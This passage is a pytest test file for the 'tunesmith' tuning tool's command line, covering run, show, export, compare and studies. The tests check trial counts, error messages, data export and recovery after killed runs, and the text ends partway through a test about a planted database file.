"""The ``tunesmith`` command, run for real: main(argv) in process and the installed entry in a subprocess."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import shlex
import sqlite3
import subprocess
import sys
import textwrap
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

import tunesmith as ts
from tunesmith.cli import SUBCOMMANDS, main
from tunesmith.pruners import Decision, Pruner, register
from tunesmith.trial import Direction, FrozenTrial, TrialState

OBJECTIVE = """
def objective(trial):
    p = trial.params
    return (p["x"] - 1.0) ** 2 + (0.0 if p["kind"] == "a" else 1.0) + p.get("extra", 0.0)

def broken(trial):
    raise RuntimeError("nope")

def curve(trial):
    for epoch in range(max(trial.start_step, 1), 10):
        trial.report(trial.params["x"], epoch)
        if trial.should_prune():
            import tunesmith
            raise tunesmith.TrialPruned()
    return trial.params["x"]

def pruned(trial):
    import tunesmith
    raise tunesmith.TrialPruned()

def flaky(trial):
    if trial.number % 2:
        raise RuntimeError("nope")
    return 1.0

def renamed_meanwhile(trial):
    import tunesmith
    if trial.number == 0:  # another process renames the study
        tunesmith.load_study(trial.study.name, trial.study.storage).rename(trial.study.name + "-renamed")
    raise RuntimeError("nope")

def synchronous(trial):  # PRAGMA synchronous of the worker's own connection
    with trial.study.storage.engine.connect() as conn:
        return float(conn.exec_driver_sql("PRAGMA synchronous").scalar_one())

def killed_at_2(trial):  # its process killed mid-trial, as by the kernel's OOM killer or kill -9
    import os, signal
    if trial.number == 2:
        os.kill(os.getpid(), signal.SIGKILL)
    return (trial.params["x"] - 1.0) ** 2

def broken_beside(trial):
    import tunesmith
    other = tunesmith.load_study(trial.study.name, trial.study.storage)  # another worker of the study
    other.add_trial(dict(trial.params), 1.0)  # completes a trial meanwhile
    raise RuntimeError("nope")
"""

STUDY = """
name: quad
objective: quad.py:objective
direction: minimize
sampler: random
seed: 0
n_trials: 12
storage: sqlite:///{db}
space:
  kind: [a, b]
  x: {{type: float, low: -3, high: 3}}
  extra: {{type: float, low: 0, high: 1, when: {{kind: b}}}}
  scale: 1.0
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "quad.py").write_text(OBJECTIVE)
    (tmp_path / "study.yaml").write_text(STUDY.format(db=tmp_path / "t.db"))
    monkeypatch.setenv("COLUMNS", "200")
    ts.set_verbosity("WARNING")
    yield tmp_path
    ts.set_verbosity("INFO")


def run_cli(*argv: str) -> int:
    return main(list(argv))


def test_run_then_studies_show_export(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{project / 't.db'}"
    assert run_cli("run", str(project / "study.yaml"), "--no-progress") == 0
    out = capsys.readouterr().out
    assert "12 trials run now, 12 in all (12 complete)" in out and "best configuration:" in out
    study = ts.load_study("quad", db)
    assert len(study.trials) == 12 and study.sampler.name == "random" and study.sampler.seed == 0
    assert all(t.params["scale"] == 1.0 for t in study.trials)

    # flags override the file; the same name resumes the study
    assert run_cli("run", str(project / "study.yaml"), "--n-trials", "3", "--no-progress") == 0
    assert "3 trials run now, 15 in all" in capsys.readouterr().out
    assert run_cli("run", str(project / "study.yaml"), "--name", "quad-sobol", "--sampler", "sobol",
                   "--n-trials", "4", "--seed", "5", "--no-progress") == 0
    other = ts.load_study("quad-sobol", db)
    assert len(other.trials) == 4 and other.sampler.name == "sobol" and other.sampler.seed == 5

    assert run_cli("studies", "--storage", db) == 0
    out = capsys.readouterr().out
    assert "quad " in out and "quad-sobol" in out and "random" in out and "sobol" in out

    assert run_cli("show", "quad", "--storage", db, "--top", "3") == 0
    out = capsys.readouterr().out
    best = study.best_trial
    assert "best 3 of 15 complete trials (minimize)" in out
    assert f"{best.value:.6g}" in out and f"{best.params['x']:.4g}" in out

    assert run_cli("export", "quad", "--storage", db, "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 15 and rows[0]["number"] == "0" and rows[0]["state"] == "complete"
    assert float(rows[best.number]["value"]) == pytest.approx(best.value)
    assert {"params_x", "params_kind", "params_extra"} <= set(rows[0])

    target = project / "quad.json"
    assert run_cli("export", "quad", "--storage", db, "--format", "json", "--output", str(target)) == 0
    doc = json.loads(target.read_text())
    assert doc["study"]["name"] == "quad" and ts.Space.from_dict(doc["study"]["space"]) == study.space
    assert [t["number"] for t in doc["trials"]] == list(range(15))
    assert doc["trials"][best.number]["params"] == best.params



def test_run_counts_the_queued_trials_it_ran(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Trials waiting in the queue before the run (enqueued, or copies of an earlier run's lost
    trials) run within its --n-trials; before, "N trials run now" counted only new records: "1"."""
    assert run_cli("run", str(project / "study.yaml"), "--n-trials", "2", "--no-progress") == 0
    study = ts.load_study("quad", f"sqlite:///{project / 't.db'}")
    study.enqueue({"kind": "a", "x": 1.0})
    study.enqueue({"kind": "a", "x": 2.0})
    capsys.readouterr()
    assert run_cli("run", str(project / "study.yaml"), "--n-trials", "3", "--no-progress") == 0
    assert "3 trials run now (2 queued before it), 5 in all (5 complete)" in capsys.readouterr().out


def test_run_counts_the_paused_trials_it_resumed(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Promotions left paused by a stopped run run in a later one (even of no new trials); before, "0 trials run now"."""
    from tunesmith.pruners import ASHA

    db = f"sqlite:///{project / 't.db'}"
    (project / "curves.yaml").write_text(textwrap.dedent(f"""
        name: curves
        objective: quad.py:curve
        sampler: random
        seed: 0
        storage: {db}
        pruner: {{name: asha, curve: best, pause: true, min_resource: 1, reduction_factor: 3, max_resource: 9}}
        space:
          x: {{type: float, low: 0, high: 1}}
        """))
    pruner = ASHA(curve="best", pause=True, min_resource=1, reduction_factor=3, max_resource=9)
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="curves", pruner=pruner, sampler="random", seed=0)
    for x in (0.5, 0.6, 0.7, 0.8, 0.9, 0.95):
        study.enqueue({"x": x})
    sys.path.insert(0, str(project))
    try:
        from quad import curve  # type: ignore[import-not-found]
    finally:
        sys.path.remove(str(project))
        sys.modules.pop("quad", None)  # the next test's quad.py is another file
    study.optimize(curve, n_trials=50, callbacks=[lambda s, r: s.stop() if r.number == 5 else None])
    assert pruner.promotable(study.trials, study.direction) == [1]  # left paused by the stop
    capsys.readouterr()
    assert run_cli("run", str(project / "curves.yaml"), "--n-trials", "0", "--no-progress") == 0
    assert "1 trial run now (1 paused, resumed), 6 in all" in capsys.readouterr().out

class _PauseTwice(Pruner):
    """Pauses a trial at steps 1 and 2 and promotes every paused trial: each is resumed twice."""

    pauses = True

    def decide(self, trial: FrozenTrial, trials: Sequence[FrozenTrial], direction: Direction) -> Decision:
        return Decision.PAUSE if (trial.last_step or 0) < 3 else Decision.CONTINUE

    def promotable(self, trials: Sequence[FrozenTrial], direction: Direction) -> list[int]:
        return [t.number for t in trials if t.state is TrialState.PAUSED]

    def describe(self) -> dict[str, object]:
        return {"name": self.name}


def test_run_says_how_often_it_resumed_a_trial_paused_twice(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A paused trial the run resumed, that paused again and was resumed again, was said as "1 paused,
    resumed", as one resumed once: the summary now says the resumes the trials' records count."""
    register("pause_twice", _PauseTwice)
    db = f"sqlite:///{project / 't.db'}"
    (project / "twice.yaml").write_text(textwrap.dedent(f"""
        name: twice
        objective: quad.py:curve
        storage: {db}
        pruner: pause_twice
        space:
          x: {{type: float, low: 0, high: 1}}
        """))
    study = ts.Study({"x": ts.Float(0, 1)}, storage=db, name="twice", pruner="pause_twice")
    for trial in [study.ask(), study.ask()]:  # both asked before one is paused (an ask resumes a paused one)
        trial.report(0.5, 1)
        assert trial.should_prune()
        study.tell(trial, state="paused")
    capsys.readouterr()
    assert run_cli("run", str(project / "twice.yaml"), "--n-trials", "1", "--no-progress") == 0
    trials = ts.load_study("twice", db).trials
    assert [(t.state.value, t.system.n_resumes) for t in trials] == [("complete", 2)] * 3
    assert "3 trials run now (2 paused, resumed 4 times), 3 in all (3 complete)" in capsys.readouterr().out


def test_a_study_of_one_trial_is_said_in_the_singular(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """"1 trial run now", "1 trial (1 complete)", "(1 trial)": no "1 trials" in what a user reads."""
    from tunesmith.plots.study_data import history

    db = f"sqlite:///{project / 't.db'}"
    assert run_cli("run", str(project / "study.yaml"), "--n-trials", "1", "--no-progress") == 0
    assert run_cli("show", "quad", "--storage", db) == 0
    assert run_cli("copy", "quad", "one", "--storage", db) == 0
    assert run_cli("delete", "one", "--storage", db, "--yes") == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "1 trial run now" in out and "1 trial (1 complete)" in out, out
    assert "(1 trial) to 'one'" in out and "deleted study 'one' (1 trial)" in out, out
    assert "1 trials" not in out and "1 complete trials" not in out
    assert history(ts.load_study("quad", db)).title == "quad: 1 finished of 1 trial"
    from tunesmith.space.params import plural

    assert (plural(0, "trial"), plural(2, "study", "studies")) == ("0 trials", "2 studies")


def test_module_objective_and_grid_sampler(project: Path, monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    (project / "grid.yaml").write_text(textwrap.dedent(f"""
        objective: quad:objective
        sampler: {{name: grid, points: {{x: [-1, 0, 1, 2]}}}}
        storage: sqlite:///{project / 'g.db'}
        space:
          kind: [a, b]
          x: {{type: float, low: -3, high: 3}}
    """))
    monkeypatch.chdir(project)
    assert run_cli("run", "grid.yaml", "--n-jobs", "2", "--no-progress") == 0
    out = capsys.readouterr().out
    study = ts.load_study("grid", f"sqlite:///{project / 'g.db'}")  # name defaults to the file's stem
    assert len(study.trials) == 8 and study.best_params == {"kind": "a", "x": 1.0}
    assert '"x": 1.0' in out


@pytest.mark.parametrize(
    "content, fragment",
    [
        ("objective: [unclosed", "not valid YAML"),
        ("- a\n- b\n", "expected a mapping of settings"),
        ("objective: quad.py:objective\n", "missing key(s) ['space']"),
        ("space: {x: [1, 2]}\n", "missing key(s) ['objective']"),
        ("objective: quad.py:objective\nspace: {x: [1]}\nn_trial: 3\n", "unknown key 'n_trial' (did you mean 'n_trials'?)"),
        ("objective: quad.py\nspace: {x: [1]}\n", "got 'quad.py': name the function after a colon, e.g. 'quad.py:objective'"),
        ("objective: quad.py:objective\nspace: {x: {type: float, low: 1, high: 0}}\n", "space: parameter 'x': low (1) must be smaller"),
        ("objective: quad.py:objective\nspace: {x: [1]}\nn_trials: many\n", "n_trials must be an integer"),
        ("objective: missing.py:objective\nspace: {x: [1]}\n", "objective script 'missing.py' not found"),
        ("objective: quad.py:nothing\nspace: {x: [1]}\n", "has no function 'nothing'"),
        ("objective: no_such_module_xyz:f\nspace: {x: [1]}\n", "cannot be imported (no module named 'no_such_module_xyz')"),
        ("objective: quad.py:objective\nspace: {x: [1]}\ndirection: up\n", "direction must be 'minimize' or 'maximize'"),
        ("objective: quad.py:objective\nspace: {x: [1]}\nsampler: best\n", "unknown sampler 'best'"),
        ("objective: quad.py:objective\nspace: {x: [1]}\npruner: hyperband9\n", "unknown pruner 'hyperband9'"),
    ],
)
def test_bad_study_files(project: Path, capsys: pytest.CaptureFixture[str], content: str, fragment: str) -> None:
    path = project / "bad.yaml"
    path.write_text(content + f"storage: sqlite:///{project / 'b.db'}\n" if "space" in content else content)
    assert run_cli("run", str(path), "--no-progress") == 2
    err = capsys.readouterr().err
    assert err.startswith("tunesmith run: error:") and fragment in err, err


@pytest.mark.parametrize(("argv", "content", "said"), [
    (["--sampler", "gird"], "", "--sampler: unknown sampler 'gird' (did you mean 'grid'?); the samplers are auto, "),
    ([], "sampler: {name: tpx}\n", "bad.yaml: sampler: unknown sampler 'tpx' (did you mean 'tpe'?); the samplers"),
    ([], "pruner: medain\n", "bad.yaml: pruner: unknown pruner 'medain' (did you mean 'median'?); the pruners are "),
])
def test_an_unknown_algorithm_is_told_as_a_command_line_user_mends_it(
        project: Path, capsys: pytest.CaptureFixture[str], argv: list[str], content: str, said: str) -> None:
    """`--sampler gird` ended with advice only a Python caller can follow ("or a Sampler instance ...
    tunesmith.samplers.register(name, cls)"): the command line says the closest name and the names."""
    path = project / "bad.yaml"
    path.write_text(f"objective: quad.py:objective\nspace: {{x: [1, 2]}}\nstorage: sqlite:///{project / 'b.db'}\n{content}")
    assert run_cli("run", str(path), "--no-progress", *argv) == 2
    err = capsys.readouterr().err
    assert said in err and "instance" not in err and "register" not in err, err
    assert not (project / "b.db").exists()  # refused before a study was made


def test_compare_with_nothing_to_draw_prints_no_table(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Every trial failed: compare printed the table's empty frame on standard output, then said on standard
    error that there was nothing to draw (status 1)."""
    (project / "s.yaml").write_text((project / "study.yaml").read_text().replace("quad.py:objective", "quad.py:broken"))
    assert run_cli("compare", str(project / "s.yaml"), "--samplers", "random", "--budget", "2", "--seeds", "1",
                   "-o", str(project / "c.html")) == 1
    out, err = capsys.readouterr()
    assert out == "" and "nothing to draw for the comparison of random: no run has a complete trial yet" in err
    assert not (project / "c.html").exists()


def test_compare_says_each_run_as_it_ends_where_standard_error_is_no_terminal(
        project: Path, subprocess_env: dict[str, str]) -> None:
    """With its output in a CI log or a pipe, compare printed nothing until its table: no progress bar is drawn
    there. Now a line as each run ends, flushed: read here while the next run waits for this test's go."""
    (project / "waits.py").write_text(
        "import pathlib, time\n"
        "def objective(trial):\n"
        "    calls = pathlib.Path(__file__).with_name('calls')\n"
        "    calls.write_text(calls.read_text() + '.' if calls.exists() else '.')\n"
        "    go = pathlib.Path(__file__).with_name('go')\n"
        "    for _ in range(400):  # the second run waits for the test's go, 20 s at most\n"
        "        if len(calls.read_text()) <= 2 or go.exists():\n"
        "            break\n"
        "        time.sleep(0.05)\n"
        "    return trial.params['x'] ** 2\n")
    (project / "s.yaml").write_text("name: w\nobjective: waits.py:objective\nspace:\n  x: {type: float, low: -1, high: 1}\n")
    cmd = [sys.executable, "-m", "tunesmith", "compare", str(project / "s.yaml"), "--samplers", "random,sobol",
           "--budget", "2", "--seeds", "1", "-o", str(project / "c.html")]
    with subprocess.Popen(cmd, cwd=project, env=subprocess_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          text=True) as proc:
        try:
            first = proc.stderr.readline() if proc.stderr else ""
            running = proc.poll() is None
        finally:
            (project / "go").touch()
        out, err = proc.communicate(timeout=120)
    assert running and first.startswith("compare: random, seed 0: done, 2/2 trials, best "), (first, err)
    assert "(run 1 of 2, " in first and proc.returncode == 0, err
    assert "compare: sobol, seed 0: done, 2/2 trials, best " in err and "(run 2 of 2, " in err, err
    assert "best value after the budget" in out


def test_compare_writes_every_run_s_trials_as_data_for_a_table(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """compare printed a table and drew a chart: its numbers could not be put in a paper's table or
    compared again, the runs kept in memory only. ``--data`` writes every trial of every run with the best
    so far the chart draws (CSV), and the runs with the summary table (JSON); the same seeds give the same rows."""
    def compare(data: str) -> str:
        assert run_cli("compare", str(project / "study.yaml"), "--samplers", "random,sobol", "--budget", "4",
                       "--seeds", "2", "-o", str(project / "c.html"), "--data", str(project / data)) == 0
        return capsys.readouterr().out

    table = compare("c.csv")
    with open(project / "c.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 2 * 2 * 4 and list(rows[0])[:6] == ["sampler", "seed", "number", "state", "value", "best_so_far"]
    runs = {(s, str(n)): [r for r in rows if (r["sampler"], r["seed"]) == (s, str(n))]
            for s in ("random", "sobol") for n in (0, 1)}
    for run in runs.values():
        assert [r["number"] for r in run] == ["0", "1", "2", "3"]
        assert [float(r["best_so_far"]) for r in run] == list(itertools.accumulate(
            (float(r["value"]) for r in run), min))
    inactive = next(r for r in rows if r["params_kind"] == "a")
    assert inactive["params_extra"] == "" and inactive["params_scale"] == "1.0"

    compare("c.json")
    doc = json.loads((project / "c.json").read_text(encoding="utf-8"))
    assert doc["direction"] == "minimize" and doc["budget"] == 4
    assert [(r["sampler"], r["seed"]) for r in doc["runs"]] == [("random", 0), ("random", 1), ("sobol", 0), ("sobol", 1)]
    same = [(r["sampler"], str(r["seed"]), t["number"], t["value"], t["best_so_far"], t["params"].get("x"))
            for r in doc["runs"] for t in r["trials"]]
    assert same == [(r["sampler"], r["seed"], int(r["number"]), float(r["value"]), float(r["best_so_far"]),
                     float(r["params_x"])) for r in rows]
    for row in doc["summary"]:
        bests = sorted(r["best_value"] for r in doc["runs"] if r["sampler"] == row["sampler"])
        assert (row["best"], row["worst"], row["runs"]) == (bests[0], bests[-1], 2)
        assert f"{row['median']:.6g}" in table


def test_compare_keeps_each_run_as_a_study_in_a_named_storage_and_a_longer_budget_resumes_them(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """compare ran its seeds in memory only: one seed's study could not be looked at afterwards, nor a long
    compare stopped midway go on. ``--storage`` keeps each run as study ``NAME-SAMPLER-seedK``; run again with
    a larger ``--budget``, each run goes on from the trials it holds."""
    db = f"sqlite:///{project / 'runs.db'}"

    def compare(budget: int, code: int = 0) -> None:
        assert run_cli("compare", str(project / "study.yaml"), "--samplers", "random,sobol", "--budget", str(budget),
                       "--seeds", "2", "-o", str(project / "c.html"), "--storage", db) == code

    compare(3)
    capsys.readouterr()
    assert run_cli("studies", "quad-*", "--storage", db, "--json") == 0
    listed = {row["name"]: row["trials"] for row in json.loads(capsys.readouterr().out)}
    assert listed == {f"quad-{s}-seed{k}": 3 for s in ("random", "sobol") for k in (0, 1)}
    first = {name: [t.params for t in ts.load_study(name, db).trials] for name in listed}
    again = ts.Study(ts.load_study("quad-sobol-seed1", db).space, sampler="sobol", seed=1)
    again.optimize(lambda t: 0.0, n_trials=3)
    assert [t.params for t in again.trials] == first["quad-sobol-seed1"]  # seed k of a run is its study's seed
    compare(5)
    for name, params in first.items():
        trials = ts.load_study(name, db).trials
        assert len(trials) == 5 and [t.params for t in trials][:3] == params, name  # the 3 kept, 2 more run
    capsys.readouterr()
    compare(4, code=2)  # runs of another budget than the chart's title
    assert re.search(r"study 'quad-random-seed0' in .* holds 5 finished trials, more than the budget of 4: pass a "
                     r"budget of 5 or more", capsys.readouterr().err)


def test_compare_into_a_storage_refuses_a_study_of_the_run_s_name_that_another_objective_or_run_made(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A second compare of another objective under the same study file name (or a study ``tunesmith run`` made
    under a run's name) went on with the stored runs: its chart drew the first objective's trials as its own."""
    db = f"sqlite:///{project / 'runs.db'}"
    (project / "other.yaml").write_text((project / "study.yaml").read_text().replace("quad.py:objective",
                                                                                     "quad.py:broken"))

    def compare(study_file: str, samplers: str) -> int:
        return run_cli("compare", str(project / study_file), "--samplers", samplers, "--budget", "3", "--seeds", "1",
                       "-o", str(project / "c.html"), "--storage", db)

    assert compare("study.yaml", "random") == 0
    capsys.readouterr()
    assert compare("other.yaml", "sobol,random") == 2  # refused before any run: no sobol run made first
    assert re.search(r"study 'quad-random-seed0' in .* holds a compare of objective 'quad:objective', not "
                     r"'quad:broken': .*give the study file another name", capsys.readouterr().err)
    assert run_cli("studies", "quad-*", "--storage", db, "--json") == 0
    assert [row["name"] for row in json.loads(capsys.readouterr().out)] == ["quad-random-seed0"]
    assert run_cli("run", str(project / "study.yaml"), "--name", "quad-sobol-seed0", "--storage", db,
                   "--n-trials", "2", "--no-progress") == 0
    capsys.readouterr()
    assert compare("study.yaml", "sobol") == 2
    assert re.search(r"study 'quad-sobol-seed0' in .* was not made by a compare", capsys.readouterr().err)
    assert [len(ts.load_study(n, db).trials) for n in ("quad-random-seed0", "quad-sobol-seed0")] == [3, 2]
    assert compare("study.yaml", "random") == 0  # the same objective goes on


def test_compare_into_a_storage_goes_on_with_its_runs_where_its_script_is_loaded_under_another_module_name(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A study file's script is loaded as ``tunesmith_objective_<stem>`` where a module of its stem was imported
    already: a second compare in such a process named the objective otherwise than the first and refused its own
    runs ("holds a compare of objective 'quad:objective', not 'tunesmith_objective_quad:objective'")."""
    import types

    db = f"sqlite:///{project / 'runs.db'}"

    def compare(budget: int) -> int:
        return run_cli("compare", str(project / "study.yaml"), "--samplers", "random", "--budget", str(budget),
                       "--seeds", "1", "-o", str(project / "c.html"), "--storage", db)

    assert compare(2) == 0
    monkeypatch.setitem(sys.modules, "quad", types.ModuleType("quad"))  # another module of the script's stem
    assert compare(3) == 0
    assert len(ts.load_study("quad-random-seed0", db).trials) == 3


def test_compare_killed_mid_trial_resumes_with_that_trial_run_again_and_the_chart_counts_the_budget(
        project: Path, subprocess_env: dict[str, str]) -> None:
    """A compare killed mid-trial left that trial running for good: the resumed run ran one trial more than the
    stopped one would have (the lost one not counted but drawn), and the chart's runs were a trial longer than
    its budget."""
    from tunesmith import plots

    db = f"sqlite:///{project / 'runs.db'}"
    (project / "k.yaml").write_text((project / "study.yaml").read_text().replace("quad.py:objective",
                                                                                 "quad.py:killed_at_2"))
    args = ["compare", str(project / "k.yaml"), "--samplers", "random", "--budget", "4", "--seeds", "1",
            "-o", str(project / "c.html"), "--storage", db]
    killed = subprocess.run([sys.executable, "-m", "tunesmith", *args], cwd=project, env=subprocess_env,
                            capture_output=True, text=True, timeout=120)
    assert killed.returncode == -9, killed.stderr
    assert ts.load_study("quad-random-seed0", db).trials[2].state is TrialState.RUNNING
    assert run_cli(*args) == 0
    trials = ts.load_study("quad-random-seed0", db).trials
    assert [t.state for t in trials] == [TrialState.COMPLETE] * 2 + [TrialState.FAILED] + [TrialState.COMPLETE] * 2
    assert trials[2].system.requeued_as == 3 and trials[3].params == trials[2].params  # the lost one run again
    runs = {"random": [ts.load_study("quad-random-seed0", db)]}
    assert max(max(s.x) for s in plots.comparison(runs).series) == 4  # the budget, as the title says
_STALLS_AT_TRIAL_2 = """
import os, time

def objective(trial):
    if os.environ.get("STALL_MARK") and trial.number == 2:  # the moment the compare is killed
        with open(os.environ["STALL_MARK"], "w") as f:
            f.write(str(os.getpid()))
        time.sleep(120)
    return (trial.params["x"] - 1) ** 2
"""


def test_a_compare_killed_mid_trial_and_run_again_draws_each_run_to_its_budget_of_finished_trials(
        project: Path, subprocess_env: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    """A compare --storage SIGKILLed while a trial ran leaves that trial running in its run's study. Run again, the
    run went on to its budget of finished trials, but the chart counted the stale trial as one run: the run drawn to
    5 trials for a budget of 4 (each best one finished trial behind its x), its progress line "5/4 trials"."""
    from tunesmith.plots.compare import comparison

    (project / "stalls.py").write_text(_STALLS_AT_TRIAL_2)
    (project / "stalls.yaml").write_text("name: q\nobjective: stalls.py:objective\ndirection: minimize\n"
                                         "space:\n  x: {type: float, low: -3, high: 3}\n")
    db, mark = f"sqlite:///{project / 'runs.db'}", project / "stalled"
    argv = ["compare", str(project / "stalls.yaml"), "--samplers", "random", "--budget", "4", "--seeds", "1",
            "-o", str(project / "c.html"), "--storage", db]
    child = subprocess.Popen([sys.executable, "-m", "tunesmith", *argv], cwd=project,
                             env={**subprocess_env, "STALL_MARK": str(mark)})
    try:
        deadline = time.monotonic() + 120
        while not (mark.exists() and mark.read_text()) and child.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        assert mark.exists(), f"trial 2 never started (exit {child.poll()})"
        child.kill()
    finally:
        child.kill()
        child.wait()
    assert [t.state for t in ts.load_study("q-random-seed0", db).trials][2] is TrialState.RUNNING
    capsys.readouterr()
    assert run_cli(*argv) == 0
    assert "random, seed 0: done, 4/4 trials" in capsys.readouterr().err
    study = ts.load_study("q-random-seed0", db)
    assert sum(t.state is TrialState.COMPLETE for t in study.trials) == 4  # the stale trial not counted: one more run
    final = {s.gid: s.x for s in comparison({"random": [study]}).series}["final-random"]
    assert final == [4]


def test_compare_refuses_data_it_cannot_write_before_any_run(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        run_cli("compare", str(project / "study.yaml"), "-o", str(project / "c.html"), "--data", str(project / "c.txt"))
    assert exit_.value.code == 2
    assert "argument --data: write the runs' trials to a .csv or .json file, not 'c.txt'" in capsys.readouterr().err


def test_compare_refuses_an_unknown_sampler_as_a_command_line_user_mends_it(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("compare", str(project / "study.yaml"), "--samplers", "random,gird", "-o", str(project / "c.html")) == 2
    err = capsys.readouterr().err
    assert "--samplers: unknown sampler 'gird' (did you mean 'grid'?); the samplers are auto, bayes" in err
    assert "instance" not in err and not (project / "c.html").exists()


def test_missing_file_and_study(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli("run", str(project / "nope.yaml")) == 2
    assert "does not exist" in capsys.readouterr().err
    db = f"sqlite:///{project / 'e.db'}"
    assert run_cli("studies", "--storage", db) == 2  # a typo, or run from another folder: an error, as show's
    assert capsys.readouterr().err.strip() == (  # on stderr: stdout stays empty for `| grep -q NAME`
        f"tunesmith studies: error: no studies in {db}: there is no such database file (--storage names the one to read)")
    assert run_cli("studies", "--storage", db, "--json") == 2  # not `[]`: a script is told of the typo too
    assert "there is no such database file" in capsys.readouterr().err
    assert not (project / "e.db").exists()  # reading commands create nothing
    assert run_cli("show", "ghost", "--storage", db) == 2
    assert f"no study named 'ghost' in {db} (there is no database file at '{project / 'e.db'}')" in capsys.readouterr().err
    ts.Study({"x": ts.Float(0, 1)}, storage=db, name="svm-digits-grid")
    assert run_cli("report", "svm-digits", "--storage", db, "-o", str(project / "r.html")) == 2
    assert "no study named 'svm-digits' in" in (err := capsys.readouterr().err) and "(did you mean 'svm-digits-grid'?)" in err
    assert run_cli("show", "ghost", "--storage", db) == 2
    assert "no study named 'ghost'" in (err := capsys.readouterr().err) and "did you mean" not in err
    assert run_cli("export", "ghost", "--storage", db, "--format", "json") == 2
    with pytest.raises(SystemExit):
        run_cli("export", "ghost", "--format", "xml")


def test_a_missing_default_database_names_the_databases_in_its_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A study written to boost.db and read with the default storage: the commands said only that
    tunesmith.db is not there, and which file to name was left to the user to find."""
    monkeypatch.chdir(tmp_path)
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///boost.db", name="xgb")
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///ft.sqlite", name="ft")
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///my runs.db", name="mine")
    (tmp_path / "notes.txt").write_text("not a database")
    assert run_cli("studies") == 2
    assert capsys.readouterr().err.strip() == (
        f"tunesmith studies: error: no studies in sqlite:///{tmp_path / 'tunesmith.db'}: there is no such database "
        "file (--storage names the one to read: --storage sqlite:///boost.db, --storage sqlite:///ft.sqlite, "
        "--storage 'sqlite:///my runs.db')")  # quoted: the option as printed reads that file (it read sqlite:///my)
    assert run_cli("show", "xgb") == 2
    assert (f"(there is no database file at '{tmp_path / 'tunesmith.db'}'; its folder holds sqlite:///boost.db, "
            "sqlite:///ft.sqlite, sqlite:///my runs.db)") in capsys.readouterr().err
    assert run_cli("show", "xgb", "--storage", "sqlite:///boost.db") == 0  # the URL it names reads the study
    assert run_cli("studies", *shlex.split("--storage 'sqlite:///my runs.db'")) == 0
    assert "mine" in capsys.readouterr().out
    assert not (tmp_path / "tunesmith.db").exists()


def test_a_study_missing_from_the_default_database_names_the_database_beside_it_that_holds_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A search stored in search.db, then `importance NAME` in a folder whose tunesmith.db holds other
    studies: the error said only that tunesmith.db has no such study. It names the file beside it that
    does (read-only, nothing made beside it), and no file holding no study of that name."""
    monkeypatch.chdir(tmp_path)
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///tunesmith.db", name="quickstart")
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///search.db", name="bc-rf")
    ts.Study({"x": ts.Float(0, 1)}, storage="sqlite:///other.db", name="mlp")
    beside = sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("tunesmith.db"))
    assert run_cli("importance", "bc-rf") == 2
    assert capsys.readouterr().err.rstrip() == (
        f"tunesmith importance: error: no study named 'bc-rf' in sqlite:///{tmp_path / 'tunesmith.db'} "
        "(sqlite:///search.db in its folder holds one)")
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("tunesmith.db")) == beside
    assert run_cli("show", "absent") == 2
    assert capsys.readouterr().err.rstrip().endswith("no study named 'absent' in "
                                                     f"sqlite:///{tmp_path / 'tunesmith.db'}")
    with pytest.raises(ts.StudyNotFound, match=r"\(sqlite:///tunesmith.db in its folder holds one\)"):
        ts.load_study("quickstart", "sqlite:///other.db")


def test_a_new_study_opens_no_database_beside_its_own_and_a_planted_one_is_read_for_a_moment_at_most(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The hint naming the database beside that holds a study was made in every failed lookup, so each new
    study (and a stored TunedSearchCV's first fit) opened every SQLite file in its folder; one planted there with a study name computed by an
    expression (tunesmith's tables, 3000 rows) held each new study for about 40 s. A new study opens
    none; a lookup shown to the user reads each for a moment at most, and still names the one that holds it."""
    import sqlite3

    import sqlalchemy as sa
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression

    from tunesmith.sklearn import TunedSearchCV
    from tunesmith.storage import sql

    monkeypatch.chdir(tmp_path)
    engine = sa.create_engine("sqlite:///planted.db")
    sql.metadata.create_all(engine)
    engine.dispose()
    with sqlite3.connect("planted.db") as conn:
        conn.execute(f"DROP TABLE {sql.studies_table.name}")
        conn.execute(f"CREATE TABLE {sql.studies_table.name} (k INTEGER)")
